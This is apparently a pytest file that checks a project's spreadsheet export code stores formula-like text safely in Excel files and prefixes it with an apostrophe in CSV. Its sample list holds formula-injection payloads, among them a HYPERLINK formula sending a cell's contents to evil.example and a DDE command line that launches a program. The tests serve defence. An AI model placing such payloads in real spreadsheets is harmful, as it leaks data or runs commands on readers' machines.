"""The one writer (saduak/exports.py): text that starts like a formula reaches the
reader as text, in every Excel and CSV file the system hands out."""

import csv
import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from saduak import exports

# Shared with the tests of each export.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_every_formula_start_is_neutralised(text: str) -> None:
    book = Workbook()
    exports.append(book.active, [text, -5, -2.5, date(2025, 6, 22)])
    again = load_workbook(io.BytesIO(exports.workbook_bytes(book))).active
    stored, minus_five, minus_half, day = again[1]
    assert stored.value == text and stored.data_type == "s"
    # Negative numbers stay numbers; dates are shown in BE.
    assert (minus_five.value, minus_five.data_type) == (-5, "n")
    assert (minus_half.value, minus_half.data_type) == (-2.5, "n")
    assert day.number_format == exports.BE_DATE


def test_csv_gets_an_apostrophe_before_formula_like_text() -> None:
    content = exports.csv_bytes([[*INJECTIONS, -5, "ปกติ"]])
    assert content.startswith("\ufeff".encode())
    cells = next(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert cells == [*("'" + text for text in INJECTIONS), "-5", "ปกติ"]
